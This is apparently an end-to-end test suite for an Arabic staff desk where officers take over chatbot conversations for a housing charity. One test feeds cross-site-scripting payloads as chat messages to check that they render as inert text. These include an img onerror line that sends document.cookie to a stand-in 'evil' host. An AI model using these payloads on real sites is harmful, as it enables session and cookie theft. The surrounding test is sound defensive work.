import { readdir, readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { type DeskBrowser, fillSignIn, findViolations, openDeskBrowser, shoot, signInAs } from './pages.ts'

let at: DeskBrowser
let email: Record<'noura' | 'fahad' | 'auditor', string>
beforeAll(async () => {
  at = await openDeskBrowser()
  email = {
    noura: (await at.desk.staff('نورة الشهري', 'researcher')).email,
    fahad: (await at.desk.staff('فهد القحطاني', 'agent')).email,
    auditor: (await at.desk.staff('سعاد المالكي', 'auditor')).email,
  }
})
afterAll(() => at.close())

const minutesAgo = (minutes: number) => new Date(Date.now() - minutes * 60_000)
const row = (page: Page, name: string) => page.getByRole('option', { name })
const take = (page: Page) => page.getByRole('button', { name: 'استلام المحادثة' })
const composer = (page: Page) => page.getByRole('textbox', { name: 'الرد' })
const transcript = (page: Page) => page.getByRole('log')

test('sign-in: a wrong password says so and keeps the e-mail; the right one opens the desk', async () => {
  const page = await at.open()
  await page.goto(`${at.desk.url}/desk`)
  await page.getByLabel('البريد الإلكتروني').waitFor()
  await shoot(page, 'sign-in')
  await fillSignIn(page, email.noura, 'not-the-password')
  await expect.poll(() => page.getByRole('alert').textContent()).toContain('غير مطابقين')
  expect(await page.getByLabel('البريد الإلكتروني').inputValue()).toBe(email.noura)
  expect(await findViolations(page)).toEqual([])
  await fillSignIn(page, email.noura)
  await page.getByRole('tab', { name: 'الكل' }).waitFor()
  expect(page.url()).toBe(`${at.desk.url}/desk/`)
})

test('someone who asks for a person appears in the waiting list at once, with reason and age', async () => {
  const page = await at.open()
  await signInAs(page, at.desk, email.noura)
  const person = await at.desk.person({ name: 'أم خالد' })
  await at.desk.hear(person, { kind: 'text', text: 'أبغى أكلم موظف' })
  await at.desk.wait(person, 'asked', minutesAgo(12))
  await row(page, 'أم خالد').waitFor()
  expect(await row(page, 'أم خالد').textContent()).toContain('ينتظر 12 د')
  expect(await row(page, 'أم خالد').textContent()).toContain('طلب موظف')
  await expect.poll(() => page.title()).toBe('(1) المحادثات · صلة')
})

test('from reading to reply and back: the composer opens with the takeover and closes with the return', async () => {
  const page = await at.open()
  const person = await at.desk.person({ name: 'عبدالله' })
  await at.desk.hear(person, { kind: 'text', text: 'السلام عليكم' })
  await at.desk.say(person, 'وعليكم السلام', { promptId: 'p', options: [{ id: 'request', label: 'طلب دعم' }] })
  await signInAs(page, at.desk, email.noura, `/c/${person.conversation}`)
  await transcript(page).getByText('وعليكم السلام').waitFor()
  expect(await page.getByText('المساعد الآلي يجيب').isVisible()).toBe(true)
  expect(await composer(page).isDisabled()).toBe(true)

  await take(page).click()
  await page.getByText('معك — المساعد متوقف').waitFor()
  await composer(page).fill('السلام عليكم، معك نورة من البحث الاجتماعي.')
  await page.keyboard.press('Enter')
  await transcript(page).getByText('معك نورة من البحث الاجتماعي.').waitFor()
  await transcript(page).getByRole('img', { name: 'أُرسلت' }).last().waitFor()
  expect(await transcript(page).getByText('معك نورة من البحث الاجتماعي.').count()).toBe(1)

  // What they answer arrives by itself.
  await at.desk.hear(person, { kind: 'text', text: 'حياك الله' })
  await transcript(page).getByText('حياك الله').waitFor()

  await composer(page).fill('مسودة لم تُرسل')
  await page.getByRole('button', { name: 'إعادة إلى المساعد' }).click()
  await take(page).waitFor()
  expect(await composer(page).isDisabled()).toBe(true)
  await page.reload()
  await take(page).waitFor()
  expect(await composer(page).inputValue()).toBe('مسودة لم تُرسل')
})

test('two officers, one conversation: one wins, the other sees who', async () => {
  const person = await at.desk.person({ name: 'متنازع عليه' })
  await at.desk.wait(person)
  const pages = await Promise.all([at.open(), at.open()])
  await Promise.all(pages.map((page, n) => signInAs(page, at.desk, n === 0 ? email.noura : email.fahad, `/c/${person.conversation}`)))
  await Promise.all(pages.map((page) => take(page).waitFor()))
  const go = at.desk.pause()
  await Promise.all(pages.map((page) => take(page).click()))
  go()
  const mine = await Promise.all(
    pages.map((page) =>
      Promise.race([
        page
          .getByText('معك — المساعد متوقف')
          .waitFor()
          .then(() => true),
        page
          .getByText('وكان الاستلام قبل لحظات')
          .waitFor()
          .then(() => false),
      ]),
    ),
  )
  expect([...mine].sort()).toEqual([false, true])
  const [winner, loser] = mine[0] ? ['نورة الشهري', pages[1]] : ['فهد القحطاني', pages[0]]
  expect(await loser?.getByText('وكان الاستلام قبل لحظات').textContent()).toContain(winner)
  await loser?.getByText(`مع ${winner} — المساعد متوقف`).waitFor()
  if (loser) expect(await composer(loser).isDisabled()).toBe(true)
  if (loser) await shoot(loser, 'beaten')
})

test('a request moves with exactly the words that were previewed', async () => {
  const person = await at.desk.person({ name: 'أم سعد' })
  const id = await at.desk.request(person, {
    answers: {
      name: { kind: 'text', value: 'أم سعد' },
      'national-id': { kind: 'national-id', value: '1000000008' },
      phone: { kind: 'phone', value: '+966500000001' },
      family: { kind: 'number', value: 6 },
      need: { kind: 'choice', value: 'rent' },
      income: { kind: 'money', value: 3500 },
    },
  })
  const page = await at.open()
  await signInAs(page, at.desk, email.noura, `/c/${person.conversation}`)
  await page.getByRole('link', { name: /MSK-/ }).click()
  await page.getByText('إيجار متأخر').waitFor()
  const body = page.getByRole('main')
  expect(await body.textContent()).not.toContain('1000000008')
  await page.getByRole('button', { name: 'إظهار: رقم الهوية' }).click()
  expect(await body.textContent()).toContain('1000000008')
  expect(await body.textContent()).toContain('3,500 ريال')

  await page.getByRole('radio', { name: 'طلب ما ينقص' }).check({ force: true })
  const send = page.getByRole('button', { name: 'إرسال وتحديث المرحلة' })
  expect(await send.isDisabled()).toBe(true)
  await page.getByLabel('ما الذي ينقص؟').fill('صورة عقد الإيجار')
  const preview = page.getByRole('region', { name: 'ما سيصل إلى صاحب الطلب' })
  await preview.getByText('صورة عقد الإيجار').waitFor()
  const told = (await preview.locator('p').allTextContents()).slice(0, 2).join('\n')
  await shoot(page, 'request-preview')
  expect(await findViolations(page)).toEqual([])
  await send.click()
  await page.getByText('المرحلة الآن: ينقصه ما يكمله.').waitFor()
  // The only way on is offered and not chosen: a second click on «send» must not take it.
  await page.getByRole('radio', { name: 'اعتماد الاكتمال' }).waitFor()
  await expect.poll(() => send.count()).toBe(0)
  await page.getByRole('radio', { name: 'اعتماد الاكتمال' }).waitFor()
  await page.getByRole('link', { name: 'أم سعد' }).click()
  await expect.poll(async () => (await transcript(page).locator('p.words').allTextContents()).join('\n')).toContain(told)
  const { rows } = await at.desk.owner.query('select stage from request where id = $1', [id])
  expect(rows).toEqual([{ stage: 'incomplete' }])
})

test('a request that moved meanwhile says so and shows the newest version', async () => {
  const person = await at.desk.person({ name: 'متحرك' })
  const id = await at.desk.request(person)
  const page = await at.open()
  // No news arrives: as if the event were lost.
  await page.route('**/api/desk/events', (route) => route.abort())
  await signInAs(page, at.desk, email.noura, `/r/${id}`)
  await page.getByRole('radio', { name: 'اعتماد الاكتمال' }).check({ force: true })
  await at.desk.owner.query("update request set version = version + 1, stage = 'complete' where id = $1", [id])
  await page.getByRole('button', { name: 'إرسال وتحديث المرحلة' }).click()
  await page.getByText('تغيّر المحتوى قبل لحظات').waitFor()
  await page.getByRole('radio', { name: 'رفع إلى اللجنة' }).waitFor()
})

test('BI-106, BI-109: what people write is text, and no more', async () => {
  const attacks = [
    '<img src=x onerror=fetch("//evil/"+document.cookie)>',
    '</style><style>*{display:none}</style>',
    '<script>alert(1)</script>',
  ]
  const person = await at.desk.person({ name: attacks[0] ?? '' })
  for (const text of attacks) await at.desk.hear(person, { kind: 'text', text })
  await at.desk.hear(person, { kind: 'text', text: 'javascript:alert(1) https://evil.example/?q=1' })
  const id = await at.desk.request(person, { answers: { name: { kind: 'text', value: attacks[2] ?? '' } } })
  const page = await at.open()
  await signInAs(page, at.desk, email.noura, `/c/${person.conversation}`)
  for (const text of attacks) await transcript(page).getByText(text, { exact: true }).waitFor()
  expect(await page.locator('[role=log] :is(img, style, script, a)').count()).toBe(0)
  await page.goto(`${at.desk.url}/desk/r/${id}`)
  await page.getByText('<script>alert(1)</script>').waitFor()
  const policy = (await page.request.get(`${at.desk.url}/desk`)).headers()['content-security-policy']
  expect(policy).toContain("script-src 'self'")
  expect(policy).not.toContain('unsafe')
})

test('an auditor reads and is offered nothing else', async () => {
  const person = await at.desk.person({ name: 'للاطلاع' })
  await at.desk.hear(person, { kind: 'text', text: 'سؤال' })
  const id = await at.desk.request(person)
  const page = await at.open()
  await signInAs(page, at.desk, email.auditor, `/c/${person.conversation}`)
  await transcript(page).getByText('سؤال').waitFor()
  expect(await take(page).count()).toBe(0)
  await page.getByText('دورك للاطلاع دون الرد.').first().waitFor()
  await page.goto(`${at.desk.url}/desk/r/${id}`)
  await page.getByText('دورك للاطلاع دون تغيير المرحلة.').waitFor()
})

test('a session that ends asks for the password and returns to the same place, draft and all', async () => {
  const { email: own, id } = await at.desk.staff('مها', 'agent')
  const person = await at.desk.person({ name: 'منقطعة' })
  const page = await at.open()
  await signInAs(page, at.desk, own, `/c/${person.conversation}`)
  await take(page).click()
  await composer(page).fill('كلام لم يُرسل بعد')
  await at.desk.owner.query('delete from auth_session where user_id = (select user_id from staff where id = $1)', [id])
  await page.getByText('انتهت الجلسة حفظًا للخصوصية').waitFor()
  await fillSignIn(page, own)
  await page.getByText('معك — المساعد متوقف').waitFor()
  expect(await composer(page).inputValue()).toBe('كلام لم يُرسل بعد')
  // Signing out takes the drafts along.
  await page.getByRole('button', { name: 'الحساب: مها' }).click()
  await page.getByRole('menuitem', { name: 'تسجيل الخروج' }).click()
  await page.getByText('تم تسجيل الخروج.').waitFor()
  expect(await page.evaluate(() => sessionStorage.length)).toBe(0)
})

test('a reply that did not reach the server is kept and sent once', async () => {
  const person = await at.desk.person({ name: 'بلا شبكة' })
  const page = await at.open()
  await signInAs(page, at.desk, email.noura, `/c/${person.conversation}`)
  await take(page).click()
  await page.getByText('معك — المساعد متوقف').waitFor()
  // It arrives, and the answer is lost on the way back: the worst case.
  let lost = false
  await page.route('**/reply', async (route) => {
    if (lost) return route.continue()
    lost = true
    const arrived = await route.fetch({ headers: { ...(await route.request().allHeaders()), 'sec-fetch-site': 'same-origin' } })
    expect(arrived.status()).toBe(200)
    await route.abort()
  })
  await composer(page).fill('رسالة واحدة لا اثنتان')
  await page.keyboard.press('Enter')
  await page.getByText('لم تُرسل').waitFor()
  const answered = page.waitForResponse('**/reply')
  await page.getByRole('button', { name: 'إعادة المحاولة' }).click()
  expect((await answered).status()).toBe(200)
  await page.getByText('لم تُرسل').waitFor({ state: 'detached' })
  await expect.poll(() => transcript(page).getByText('رسالة واحدة لا اثنتان').count()).toBe(1)
  const { rows } = await at.desk.owner.query("select 1 from outbox where conversation_id = $1 and class = 'staff'", [person.conversation])
  expect(rows).toHaveLength(1)
  await page.context().setOffline(true)
  await page.getByText('لا يوجد اتصال بالإنترنت').waitFor()
  await composer(page).fill('تُكتب الآن وتُرسل لاحقًا')
  expect(await page.getByRole('button', { name: 'إرسال', exact: true }).isDisabled()).toBe(true)
  await page.context().setOffline(false)
  await page.getByText('لا يوجد اتصال بالإنترنت').waitFor({ state: 'detached' })
})

test('the keyboard alone: arrows walk the list, Enter opens, tabs follow the direction of reading', async () => {
  const page = await at.open()
  await signInAs(page, at.desk, email.noura, '?tab=all')
  const options = page.getByRole('option')
  await options.nth(2).waitFor()
  await page.getByRole('tab', { name: 'الكل' }).focus()
  await page.keyboard.press('ArrowRight')
  expect(await page.getByRole('tab', { selected: true }).textContent()).toContain('معي')
  await page.keyboard.press('ArrowLeft')
  expect(await page.getByRole('tab', { selected: true }).textContent()).toContain('الكل')
  await page.keyboard.press('Tab')
  await page.keyboard.press('ArrowDown')
  const name = await page.evaluate(() => document.activeElement?.textContent?.slice(1, 12) ?? '')
  expect(await page.evaluate(() => getComputedStyle(document.activeElement ?? document.body).outlineStyle)).toBe('solid')
  await page.keyboard.press('Enter')
  await expect.poll(() => page.url()).toContain('/desk/c/')
  expect(name).not.toBe('')
})

test('several tabs share one event stream', async () => {
  const page = await at.open()
  const streams: string[] = []
  page.context().on('request', (request) => {
    if (request.url().endsWith('/events')) streams.push(request.url())
  })
  await signInAs(page, at.desk, email.noura, '?tab=all')
  await expect.poll(() => streams.length).toBe(1)
  const others = await Promise.all([1, 2, 3].map(() => page.context().newPage()))
  await Promise.all(others.map((other) => other.goto(`${at.desk.url}/desk?tab=all`)))
  const person = await at.desk.person({ name: 'تظهر في كل لسان' })
  await at.desk.hear(person, { kind: 'text', text: 'مرحبًا' })
  for (const tab of [page, ...others]) await row(tab, 'تظهر في كل لسان').waitFor()
  expect(streams).toHaveLength(1)
  // The one that listened goes; another takes over.
  await page.close()
  await expect.poll(() => streams.length).toBe(2)
  const late = await at.desk.person({ name: 'بعد إغلاق الأول' })
  await at.desk.hear(late, { kind: 'text', text: 'مرحبًا' })
  for (const tab of others) await row(tab, 'بعد إغلاق الأول').waitFor()
})

test.each([
  { dark: false, width: 1366, height: 768, name: 'desktop-light' },
  { dark: true, width: 1366, height: 768, name: 'desktop-dark' },
  { dark: false, width: 390, height: 844, touch: true, name: 'phone-light' },
  { dark: true, width: 390, height: 844, touch: true, name: 'phone-dark' },
])('$name: no barrier that axe can find, and nothing wider than the screen', async ({ name, ...size }) => {
  const person = await at.desk.person({ name: `أم خالد ${name}` })
  await at.desk.hear(person, { kind: 'text', text: 'السلام عليكم ورحمة الله' }, minutesAgo(26 * 60))
  await at.desk.say(person, 'وعليكم السلام ورحمة الله.\nمعك المساعد الآلي لجمعية مساكن. كيف نخدمك؟', {
    at: minutesAgo(26 * 60 - 1),
    promptId: name,
    options: [
      { id: 'request', label: 'طلب دعم سكني' },
      { id: 'status', label: 'أين طلبي؟' },
      { id: 'human', label: 'التحدث مع موظف' },
    ],
  })
  await at.desk.hear(person, { kind: 'choice', promptId: name, optionId: 'human' }, minutesAgo(18))
  await at.desk.say(person, 'حوّلنا رسالتك إلى مسؤول البحث الاجتماعي. الدوام اليوم حتى ٤ عصرًا، ويمكن المتابعة هنا إلى أن يحين دورك.', {
    at: minutesAgo(18),
  })
  await at.desk.wait(person, 'asked', minutesAgo(18))
  await at.desk.hear(person, { kind: 'text', text: 'جوالي الجديد +966 50 000 0001 بدل القديم، ورقم الطلب MSK-1042' }, minutesAgo(6))
  await at.desk.hear(
    person,
    { kind: 'voice', file: { id: null, mime: 'audio/ogg', size: 9000, name: null, problem: null }, caption: null },
    minutesAgo(5),
  )
  const id = await at.desk.request(person, {
    stage: 'committee',
    answers: {
      name: { kind: 'text', value: 'أم خالد' },
      'national-id': { kind: 'national-id', value: '1000000008' },
      phone: { kind: 'phone', value: '+966500000001' },
      need: { kind: 'choice', value: 'rent' },
      income: { kind: 'by-staff' },
    },
  })
  const page = await at.open(size)
  await signInAs(page, at.desk, email.noura)
  await row(page, `أم خالد ${name}`).waitFor()
  await shoot(page, `${name}-list`)
  // On a desktop the list is a part of what follows.
  if (size.width < 720) expect(await findViolations(page)).toEqual([])
  await row(page, `أم خالد ${name}`).click()
  await transcript(page).getByText('جوالي الجديد').waitFor()
  await shoot(page, `${name}-conversation`)
  expect(await findViolations(page)).toEqual([])
  // Open at the newest message, and «+966 50 000 0001» reads as it was written.
  expect(await transcript(page).evaluate((box) => box.scrollHeight - box.scrollTop - box.clientHeight)).toBeLessThan(2)
  const [plus, nine] = await transcript(page)
    .locator('bdi', { hasText: '+966 50 000 0001' })
    .evaluate((phone) =>
      [0, 1].map((place) => {
        const range = document.createRange()
        range.setStart(phone.firstChild as Node, place) // its text
        range.setEnd(phone.firstChild as Node, place + 1)
        return range.getBoundingClientRect().left
      }),
    )
  expect(plus).toBeLessThan(nine ?? 0)
  await take(page).click()
  await page.getByText('معك — المساعد متوقف').waitFor()
  await composer(page).fill('السلام عليكم، معك نورة من البحث الاجتماعي. قرأت رسائلك، ويهمني سؤال واحد: هل العقد باسمك؟')
  await page.getByRole('button', { name: 'إرسال', exact: true }).click()
  await transcript(page).getByText('هل العقد باسمك؟').waitFor()
  await shoot(page, `${name}-mine`)
  if (size.width >= 720) expect(await findViolations(page)).toEqual([])
  await page.goto(`${at.desk.url}/desk/r/${id}`)
  await page.getByRole('radio', { name: 'تسجيل عدم القبول' }).waitFor()
  await shoot(page, `${name}-request`)
  expect(await findViolations(page)).toEqual([])
  for (const path of ['', `/c/${person.conversation}`, `/r/${id}`]) {
    await page.goto(`${at.desk.url}/desk${path}`)
    await page.getByRole('main').or(page.getByRole('listbox')).first().waitFor()
    expect(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth)).toBe(true)
  }
})

test('in English everything turns around', async () => {
  const page = await at.open()
  await signInAs(page, at.desk, email.noura)
  await page.getByRole('button', { name: 'الحساب: نورة الشهري' }).click()
  await page.getByRole('menuitem', { name: 'English' }).click()
  await page.getByRole('heading', { name: 'Conversations' }).waitFor()
  expect(await page.evaluate(() => [document.documentElement.dir, document.documentElement.lang])).toEqual(['ltr', 'en'])
  await shoot(page, 'english')
  expect(await findViolations(page)).toEqual([])
})

test('the first screen weighs at most 350 KiB', async () => {
  const page = await at.open()
  const loaded = new Set<string>()
  page.on('response', (response) => {
    const { pathname } = new URL(response.url())
    if (pathname.startsWith('/assets/')) loaded.add(pathname)
  })
  await signInAs(page, at.desk, email.noura)
  await page.getByRole('tab', { name: 'الكل' }).waitFor()
  await page.evaluate(() => document.fonts.ready)
  let bytes = 0
  for (const path of loaded) {
    const file = await readFile(join(at.pages, path))
    bytes += path.endsWith('.woff2') ? file.length : gzipSync(file).length
  }
  expect(loaded.size).toBeGreaterThan(4)
  expect((await readdir(join(at.pages, 'assets'))).some((name) => name.startsWith('request-page') && loaded.has(`/assets/${name}`))).toBe(
    false,
  )
  expect(bytes / 1024).toBeLessThan(350)
})

test('no page complained, and none asked another server', () => {
  expect(at.complaints).toEqual([])
})
